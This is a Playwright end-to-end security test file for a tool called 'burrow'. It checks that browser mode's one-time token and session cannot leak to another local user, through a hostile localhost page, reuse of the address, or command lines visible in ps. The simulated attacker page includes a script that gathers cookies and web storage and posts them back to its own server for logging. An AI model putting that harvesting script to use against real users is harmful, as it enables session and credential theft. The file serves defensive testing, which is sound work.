/**
 * Browser mode's credential against another local user (issue: "the doors under attack"): the
 * address `burrow web` prints lets one browser in, once; what that browser keeps is never sent
 * to, nor readable by, a page another user serves on another port of 127.0.0.1; and `--open`
 * never puts a token on a command line that `ps` shows every user.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test, expect, type BrowserContext } from '@playwright/test';
import { BURROW, cleanEnv } from '../../test/helpers/cli.js';
import { createHostileUser, hostileUserUnavailable, type HostileUser } from '../../test/helpers/hostile-user.js';
import { freePort, waitFor } from '../../test/helpers/net.js';

interface Web {
  child: ChildProcess;
  url: string;
  token: string;
  dir: string;
  config: string;
  out: () => string;
}

async function startWeb(args: string[] = [], env: NodeJS.ProcessEnv = {}): Promise<Web> {
  const dir = mkdtempSync(path.join(tmpdir(), 'burrow-e2e-cred-'));
  const config = path.join(dir, 'config', 'config.json');
  const child = spawn(process.execPath, [BURROW, 'web', '--config', config, ...args], {
    env: cleanEnv({ HOME: path.join(dir, 'home'), ...env }),
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let out = '';
  child.stdout!.on('data', (d: Buffer) => {
    out += d.toString();
  });
  child.stderr!.on('data', (d: Buffer) => {
    out += d.toString();
  });
  await waitFor(() => /http:\/\/127\.0\.0\.1:\d+\/#token=[\w-]+\n/.test(out), `burrow web's address (${out})`, 20_000);
  const url = /http:\/\/127\.0\.0\.1:\d+\/#token=[\w-]+/.exec(out)![0];
  return { child, url, token: url.slice(url.indexOf('#token=') + 7), dir, config, out: () => out };
}

async function stopWeb(web: Web): Promise<void> {
  web.child.kill('SIGTERM');
  await new Promise((r) => web.child.once('exit', r));
  rmSync(web.dir, { recursive: true, force: true });
}

/** The session credential the bridge gave a page (its `welcome` frame). */
function welcomes(context: BrowserContext): string[] {
  const got: string[] = [];
  context.on('page', (p) =>
    p.on('websocket', (ws) =>
      ws.on('framereceived', (f) => {
        const m = JSON.parse(String(f.payload)) as { type: string; session?: string };
        if (m.type === 'welcome') got.push(m.session!);
      }),
    ),
  );
  return got;
}

test.describe('the browser-mode credential, against another local user', () => {
  let hostile: HostileUser;
  test.skip(hostileUserUnavailable() !== undefined, hostileUserUnavailable() ?? '');
  test.beforeAll(() => {
    hostile = createHostileUser();
  });
  test.afterAll(() => {
    hostile?.dispose();
  });

  test('a page another user serves on another port of 127.0.0.1 never sees the token or the session: no cookie, no storage, no header', async ({ browser }) => {
    const web = await startWeb();
    const context = await browser.newContext();
    const sessions = welcomes(context);
    const port = await freePort();
    // The other user's page: everything its script can read, and every header the browser sends it.
    const evil = hostile.startNode(`
      import http from 'node:http';
      http.createServer((req, res) => {
        let body = '';
        req.on('data', (d) => { body += d; });
        req.on('end', () => {
          console.log(JSON.stringify({ url: req.url, headers: req.headers, body }));
          res.setHeader('content-type', 'text/html');
          res.end(req.url === '/' ? '<!doctype html><title>other</title><script>fetch("/report", { method: "POST", body: JSON.stringify({ cookie: document.cookie, local: Object.entries(localStorage), session: Object.entries(sessionStorage) }) }).then(() => { document.title = "reported"; });</script>' : 'ok');
        });
      }).listen(${port}, '127.0.0.1', () => console.log('LISTENING'));
    `);
    let seen = '';
    evil.stdout!.on('data', (d: Buffer) => {
      seen += d.toString();
    });
    try {
      await waitFor(() => seen.includes('LISTENING'), "the other user's page");
      const page = await context.newPage();
      await page.goto(web.url);
      await expect(page.getByRole('heading', { name: 'Tunnels' })).toBeVisible();
      await expect.poll(() => sessions.length).toBe(1);
      expect(page.url(), 'the token left the address bar').not.toContain(web.token);
      // The person follows a link to the other user's page, in the same browser.
      const other = await context.newPage();
      await other.goto(`http://127.0.0.1:${port}/`);
      await expect(other).toHaveTitle('reported');
      const lines = seen.split('\n').filter((l) => l.startsWith('{'));
      expect(lines.some((l) => l.includes('/report'))).toBe(true);
      for (const secret of [web.token, sessions[0]!]) expect(seen, "the other user saw Burrow's credential").not.toContain(secret);
      expect(seen).not.toMatch(/burrow_\d+=/);
      // The window still works after a reload: its session is kept for its own origin only.
      await page.reload();
      await expect(page.getByRole('heading', { name: 'Tunnels' })).toBeVisible();
    } finally {
      evil.kill('SIGKILL');
      await context.close();
      await stopWeb(web);
    }
  });

  test('the address works once: a second browser opening it is refused, with what to do', async ({ browser }) => {
    const web = await startWeb();
    const first = await browser.newContext();
    const second = await browser.newContext();
    try {
      const a = await first.newPage();
      await a.goto(web.url);
      await expect(a.getByRole('heading', { name: 'Tunnels' })).toBeVisible();
      const b = await second.newPage();
      const calls: string[] = [];
      b.on('websocket', (ws) => ws.on('framereceived', (f) => calls.push(String(f.payload))));
      await b.goto(web.url);
      await expect(b.getByRole('alert')).toContainText('This address has been used already');
      await expect(b.getByRole('alert')).toContainText('Run burrow web again');
      expect(calls, 'nothing was sent to the second browser').toEqual([]);
      // The first browser is unaffected, and a new tab of it gets in without the address.
      const c = await first.newPage();
      await c.goto(new URL('/', web.url).toString());
      await expect(c.getByRole('heading', { name: 'Tunnels' })).toBeVisible();
    } finally {
      await first.close();
      await second.close();
      await stopWeb(web);
    }
  });

  test("--open hands the browser a private redirect file: no token on any command line ps shows, and the file is the owner's only", async ({ browser }) => {
    // A desktop's opener that records what it was given and stays a moment, as a real one does.
    const bin = mkdtempSync(path.join(tmpdir(), 'burrow-e2e-bin-'));
    const record = path.join(bin, 'opened');
    writeFileSync(path.join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$@" > ${record}\nsleep 5\n`, { mode: 0o755 });
    chmodSync(bin, 0o755);
    const web = await startWeb(['--open'], { DISPLAY: ':99', PATH: `${bin}:${process.env.PATH}` });
    try {
      await waitFor(() => {
        try {
          return readFileSync(record, 'utf8').length > 0;
        } catch {
          return false;
        }
      }, 'the browser opener to run');
      const opened = readFileSync(record, 'utf8').trim();
      expect(opened).toMatch(/^file:\/\/.*\/control\/open-[0-9a-f]{16}\.html$/);
      const file = decodeURIComponent(new URL(opened).pathname);
      const redirectToken = /#token=([\w-]+)/.exec(readFileSync(file, 'utf8'))![1]!;
      // Every command line on the machine, as root sees them and as the other user sees them.
      const cmdlines = readdirSync('/proc')
        .filter((p) => /^\d+$/.test(p))
        .map((p) => {
          try {
            return readFileSync(`/proc/${p}/cmdline`, 'utf8');
          } catch {
            return '';
          }
        })
        .join('\n');
      const ps = hostile.run(['ps', '-eo', 'args']).stdout;
      expect(ps).toContain('xdg-open');
      for (const t of [web.token, redirectToken]) {
        expect(cmdlines).not.toContain(t);
        expect(ps).not.toContain(t);
      }
      expect(hostile.run(['cat', file]).status, 'the other user cannot read the redirect file').not.toBe(0);
      expect(statSync(file).mode & 0o777).toBe(0o600);
      // And the file does its job: the browser it is given lands in Burrow.
      const context = await browser.newContext();
      const page = await context.newPage();
      await page.goto(opened);
      await expect(page.getByRole('heading', { name: 'Tunnels' })).toBeVisible();
      expect(page.url()).not.toContain(redirectToken);
      await context.close();
    } finally {
      await stopWeb(web);
      rmSync(bin, { recursive: true, force: true });
    }
  });
});
